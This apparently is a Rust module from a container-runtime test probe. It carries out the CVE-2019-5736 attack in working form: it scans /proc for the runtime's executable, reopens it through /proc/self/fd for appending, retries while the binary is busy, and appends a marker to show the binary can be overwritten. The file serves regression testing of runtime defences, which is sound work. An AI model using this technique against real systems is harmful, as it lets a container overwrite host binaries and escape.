//! `--seize-exe PATH`: the `/proc/<pid>/exe` overwrite attack (CVE-2019-5736),
//! played by a process of the container against the runtime.
//!
//! The probe scans `/proc` until it can open the executable of another process
//! that runs a program other than the probe (the runtime, turned back into
//! itself by a `#!/proc/self/exe` script), keeps that `O_PATH` descriptor, and
//! reopens it through `/proc/self/fd/N` for appending: over and over while the
//! kernel answers `ETXTBSY` (some process still runs the binary), once
//! otherwise. When it may write, it appends a marker, so the binary's hash
//! changes. As soon as it holds a descriptor it writes its pid to PATH with the
//! extension `caught` (so a test stops feeding it processes); what happened
//! goes to PATH as one JSON object:
//! `{"pid", "exe", "reopen": "ok" | errno name, "errno", "written"}`; then the
//! probe goes on to its other flags (`--sleep 0` keeps it for the test to
//! delete).

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::Duration;

use serde_json::json;

/// Reopen attempts while the binary is busy (`ETXTBSY`), one per `BUSY_PAUSE`.
const BUSY_ATTEMPTS: u32 = 3000;
const BUSY_PAUSE: Duration = Duration::from_millis(10);
/// What the attack appends to the binary it could open for writing.
const MARKER: &[u8] = b"\n# overwritten by amphi-probe --seize-exe\n";

/// Waits for another program's executable, attacks it and writes the outcome
/// to `report`.
pub fn seize_exe(report: &Path) -> Result<(), String> {
    let own = fs::metadata("/proc/self/exe").map_err(|e| format!("stat /proc/self/exe: {e}"))?;
    let me = std::process::id();
    let (pid, exe) = loop {
        if let Some(found) = scan(me, (own.dev(), own.ino()))? {
            break found;
        }
        std::thread::yield_now();
    };
    let caught = report.with_extension("caught");
    fs::write(&caught, format!("{pid}\n")).map_err(|e| format!("write {}: {e}", caught.display()))?;
    let target = fs::read_link(format!("/proc/{pid}/exe")).map(|p| p.to_string_lossy().into_owned());
    let reopen = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&exe));
    let mut attempts = 0;
    let outcome = loop {
        match OpenOptions::new().append(true).open(&reopen) {
            Err(e) if e.raw_os_error() == Some(nix::libc::ETXTBSY) && attempts < BUSY_ATTEMPTS => {
                attempts += 1;
                std::thread::sleep(BUSY_PAUSE);
            }
            other => break other,
        }
    };
    let line = match outcome {
        Ok(mut binary) => {
            let written = binary.write_all(MARKER).is_ok();
            json!({ "pid": pid, "exe": target.ok(), "reopen": "ok", "errno": 0, "written": written })
        }
        Err(e) => {
            let errno = e.raw_os_error().unwrap_or(0);
            let name = format!("{:?}", nix::errno::Errno::from_raw(errno));
            json!({ "pid": pid, "exe": target.ok(), "reopen": name, "errno": errno, "written": false })
        }
    };
    // Whole or not at all: the test reads the file as soon as it exists.
    let partial = report.with_extension("partial");
    fs::write(&partial, format!("{line}\n")).map_err(|e| format!("write {}: {e}", partial.display()))?;
    fs::rename(&partial, report).map_err(|e| format!("rename to {}: {e}", report.display()))
}

/// One pass over `/proc`: the first process (not `me`) whose executable we may
/// open and which is not the file `own` names, with that executable open
/// `O_PATH`.
fn scan(me: u32, own: (u64, u64)) -> Result<Option<(u32, File)>, String> {
    let entries = fs::read_dir("/proc").map_err(|e| format!("read /proc: {e}"))?;
    for entry in entries.flatten() {
        let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else { continue };
        if pid == me {
            continue;
        }
        // A non-dumpable process (a runtime stage) answers EACCES: try again
        // next pass, it may have become dumpable.
        // Kernel threads and zombies have none.
        let Ok(exe) = OpenOptions::new().read(true).custom_flags(nix::libc::O_PATH).open(format!("/proc/{pid}/exe"))
        else {
            continue;
        };
        let Ok(meta) = exe.metadata() else { continue };
        if (meta.dev(), meta.ino()) != own && meta.is_file() {
            return Ok(Some((pid, exe)));
        }
    }
    Ok(None)
}
